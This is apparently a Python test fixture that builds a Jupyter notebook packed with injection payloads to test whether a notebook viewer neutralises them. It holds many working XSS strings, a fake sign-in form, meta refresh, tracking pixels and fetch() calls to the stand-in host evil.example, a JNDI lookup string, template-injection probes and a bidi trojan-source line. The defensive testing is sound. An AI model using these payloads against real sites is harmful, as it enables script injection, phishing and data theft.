"""Notebooks that try to do something on the page that shows them: what anybody may commit."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Sequence
from typing import Any

from stand.pipeline_folder import code_cell

ELSEWHERE = "evil.example"
SCRIPT = "window.top.harmed=1;window.harmed=1;fetch('https://evil.example/script')"
HTML = (
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<svg><a xlink:href="javascript:{SCRIPT}"><text>x</text></a></svg>',
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/set.png 1x" src="//evil.example/relative">',
    '<link rel="stylesheet" href="https://evil.example/style.css">',
    '<style>@import "https://evil.example/import.css"; body{background:url(https://evil.example/css)}</style>',
    '<div style="background:url(https://evil.example/inline);position:fixed;inset:0">cover</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/form"><input name=password autofocus><button>Sign in</button></form>',
    '<a href="https://evil.example/link" ping="https://evil.example/ping" target="_top">link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    f'<a href="javascript:{SCRIPT}">script</a>',
    f'<iframe src="https://evil.example/frame" srcdoc="<script>{SCRIPT}</script>"></iframe>',
    '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
    '<video src="https://evil.example/video" poster="https://evil.example/poster" autoplay></video>',
    f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>',
    f'<input onfocus="{SCRIPT}" autofocus>',
    f"<math><mtext><table><mglyph><style><img src onerror={SCRIPT}>",
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">',
    f"</iframe></div></section></main>\"'><script>{SCRIPT}</script>",
    f'<template><script>{SCRIPT}</script></template><p id="harmed" name="harmed">clobber</p>',
    f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->",
)
MARKDOWN = (
    *HTML,
    "![pixel](https://evil.example/markdown.png)",
    f"[script](javascript:{SCRIPT})",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'$\\href{{javascript:{SCRIPT}}}{{x}}$ $$\\unicode[some-font; color:red; "onmouseover={SCRIPT}]{{x}}$$',
    "{{7*7}} ${jndi:ldap://evil.example/a} {% raw %} <%= 7*7 %>",
    f'[x][y]\n\n[y]: javascript:{SCRIPT} "title\\" onmouseover={SCRIPT}"',
    "<https://evil.example/auto>",
)
NAMES = ("<img src=x onerror=window.harmed=1>.ipynb", "{{7*7}}${jndi:ldap:}'\"&.ipynb")
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="{SCRIPT}"><script>{SCRIPT}</script>'
    '<image href="https://evil.example/svg.png" width="9" height="9"/><rect width="80" height="40" fill="teal"/>'
    "<foreignObject><iframe src='https://evil.example/foreign'/></foreignObject></svg>"
)


def png(red: int, *, width: int = 60, height: int = 30, comment: str = "", level: int = 6) -> str:
    """Return a PNG of one colour in base64; comment and level of compression change its bytes, not its pixels."""
    lines = b"".join(b"\0" + bytes((red, 90, 160)) * width for _ in range(height))
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))]
    chunks += [(b"tEXt", f"Software\0{comment}".encode())] if comment else []
    chunks += [(b"IDAT", zlib.compress(lines, level)), (b"IEND", b"")]
    data = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in chunks
    )
    return base64.b64encode(data).decode()


def shown(mime: str, value: object, **others: object) -> dict[str, Any]:
    """Return an output that shows something."""
    return {"output_type": "display_data", "data": {mime: value, **others}, "metadata": {}}


def hostile_outputs() -> list[dict[str, Any]]:
    """Return every payload in every kind of output."""
    widget = {"model_id": "<script>", "version_major": 2}
    return [
        *(shown("text/html", text) for text in HTML),
        *(shown("text/markdown", text) for text in MARKDOWN),
        shown("image/svg+xml", SVG),
        shown("image/png", f'x" onerror="{SCRIPT}'),
        shown(f'image/png" onerror="{SCRIPT}', png(1)),
        shown("application/javascript", SCRIPT),
        shown("text/latex", MARKDOWN[-4]),
        shown("application/json", {"a": HTML[0]}),
        shown("application/vnd.jupyter.widget-view+json", widget),
        {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{HTML[1]}\x1b[0m {MARKDOWN[-3]}"},
        {"output_type": "stream", "name": f'"><script>{SCRIPT}</script>', "text": HTML[0]},
        {"output_type": "error", "ename": HTML[0], "evalue": HTML[1], "traceback": [f"\x1b[0;31m{HTML[1]}"]},
        {"output_type": HTML[0]},
    ]


def document(cells: Sequence[dict[str, Any]]) -> bytes:
    """Return the bytes of a notebook."""
    kernel = {"display_name": HTML[0], "language": "python", "name": "python3"}
    content = {"cells": list(cells), "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(content, indent=1).encode()


def hostile_notebook() -> bytes:
    """Return a notebook with all payloads: in sources, texts, tags, ids, parameters, attachments and outputs."""
    parameters = f'depth: int = 6\nnote: str = "{MARKDOWN[-3]}"\nother: str = {HTML[1]!r}\n'
    attached = {"x.png": {"image/png": f'"><script>{SCRIPT}</script>', "image/svg+xml": SVG}}
    texts = [
        {"cell_type": "markdown", "id": f"text-{n}", "metadata": {}, "source": text}
        for n, text in enumerate(MARKDOWN)
    ]
    return document(
        [
            code_cell(parameters, "parameters", tags=["parameters", HTML[1]]),
            *texts,
            {
                "cell_type": "markdown",
                "id": '"><script>window.harmed=1</script>',
                "metadata": {},
                "source": '![a](attachment:x.png) ![b](attachment:none" onerror="window.harmed=1)',
                "attachments": attached,
            },
            {"cell_type": "raw", "id": "raw", "metadata": {}, "source": HTML[0]},
            *(code_cell(text, f"code-{n}") for n, text in enumerate(HTML)),
            code_cell("%%html\n" + HTML[0], "magic"),
            code_cell("if access != 'user\u202e \u2066# admin\u2069 \u2066':\n    pass", "bidi"),
            code_cell("show()", "shown") | {"outputs": hostile_outputs(), "execution_count": 1},
        ]
    )
